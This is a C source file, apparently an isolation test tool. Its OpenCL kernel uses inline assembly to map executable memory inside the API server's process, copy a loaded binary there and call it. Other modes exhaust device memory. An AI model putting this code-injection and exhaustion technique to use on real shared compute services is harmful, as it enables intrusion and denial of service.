/* Runs a flat binary (payload.c) inside the API server's own process, with its descriptors and pages: a kernel with inline assembly
 * maps memory, copies the code there and calls it.
 *
 *   inside BINARY ARGUMENT     prints "returned N"; ends with 3 where the API server did not answer
 *   inside take BYTES [MS]     no binary: allocates, prints "taken" or "refused", and stays so long
 *   inside fill BYTES          no binary: for each line of its standard input it allocates pieces until one is refused, and prints
 *                              how many it has */
#define CL_TARGET_OPENCL_VERSION 300
#include <CL/cl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static const char *source =
    "static long map(long size) { long r; __asm__ volatile(\"mov $0x22, %%r10\\n mov $-1, %%r8\\n xor %%r9, %%r9\\n syscall\""
    " : \"=a\"(r) : \"a\"(9L), \"D\"(0L), \"S\"(size), \"d\"(7L) : \"rcx\", \"r8\", \"r9\", \"r10\", \"r11\", \"memory\"); return r; }\n"
    "kernel void k(global uchar *code, ulong size, global uchar *argument, global long *out) {\n"
    "  long at = map((size + 0x10000) & ~4095L), r; out[0] = at; if (at < 0 && at > -4096) return;\n"
    "  global uchar *to = (global uchar *)at; for (ulong i = 0; i < size; i++) to[i] = code[i];\n"
    "  __asm__ volatile(\"mov %%rsp, %%rbx\\n and $-64, %%rsp\\n call *%%rax\\n mov %%rbx, %%rsp\" : \"=a\"(r) : \"a\"(at), \"D\"((long)argument)"
    " : \"rbx\", \"rcx\", \"rdx\", \"rsi\", \"r8\", \"r9\", \"r10\", \"r11\", \"r12\", \"r13\", \"r14\", \"r15\", \"memory\");\n"
    "  out[1] = r;\n"
    "}\n";

static int fail(const char *what, cl_int error)
{
    fprintf(stderr, "%s: %d\n", what, error);
    return 3;
}

int main(int argc, char **argv)
{
    static char argument[256];
    cl_platform_id platform;
    cl_device_id device;
    cl_int error;
    long out[2] = {0, -1};
    size_t one = 1;

    if (argc < 3)
        return fail("usage: inside BINARY ARGUMENT | inside take BYTES [MS] | inside fill BYTES", 0);
    if (clGetPlatformIDs(1, &platform, NULL) || clGetDeviceIDs(platform, CL_DEVICE_TYPE_ALL, 1, &device, NULL))
        return fail("no device", 0);
    cl_context context = clCreateContext(NULL, 1, &device, NULL, NULL, &error);
    if (!strcmp(argv[1], "take")) {
        clCreateBuffer(context, CL_MEM_READ_WRITE, strtoul(argv[2], NULL, 0), NULL, &error);
        puts(error ? "refused" : "taken");
        fflush(stdout);
        usleep(argc > 3 ? atoi(argv[3]) * 1000 : 0);
        return 0;
    }
    if (!strcmp(argv[1], "fill")) {
        for (int count = 0; getchar() != EOF;) {
            while (clCreateBuffer(context, CL_MEM_READ_WRITE, strtoul(argv[2], NULL, 0), NULL, &error) && !error)
                count++;
            printf("%d\n", count);
            fflush(stdout);
        }
        return 0;
    }
    FILE *file = fopen(argv[1], "rb");
    if (!file)
        return fail("cannot open the binary", 0);
    static char code[1 << 16];
    cl_ulong size = fread(code, 1, sizeof code, file);
    strncpy(argument, argv[2], sizeof argument - 1);
    cl_command_queue queue = clCreateCommandQueue(context, device, 0, &error);
    cl_program program = clCreateProgramWithSource(context, 1, &source, NULL, &error);
    if ((error = clBuildProgram(program, 1, &device, "", NULL, NULL)))
        return fail("the kernel does not build", error);
    cl_kernel kernel = clCreateKernel(program, "k", &error);
    cl_mem_flags copied = CL_MEM_COPY_HOST_PTR;
    cl_mem binary = clCreateBuffer(context, copied, size, code, &error);
    cl_mem text = clCreateBuffer(context, copied, sizeof argument, argument, &error);
    cl_mem result = clCreateBuffer(context, copied, sizeof out, out, &error);
    clSetKernelArg(kernel, 0, sizeof binary, &binary);
    clSetKernelArg(kernel, 1, sizeof size, &size);
    clSetKernelArg(kernel, 2, sizeof text, &text);
    clSetKernelArg(kernel, 3, sizeof result, &result);
    error = clEnqueueNDRangeKernel(queue, kernel, 1, NULL, &one, &one, 0, NULL, NULL);
    if (!error)
        error = clFinish(queue);
    if (!error)
        error = clEnqueueReadBuffer(queue, result, CL_TRUE, 0, sizeof out, out, 0, NULL, NULL);
    if (error)
        return fail("the API server", error);
    printf("returned %ld\n", out[1]);
    return 0;
}
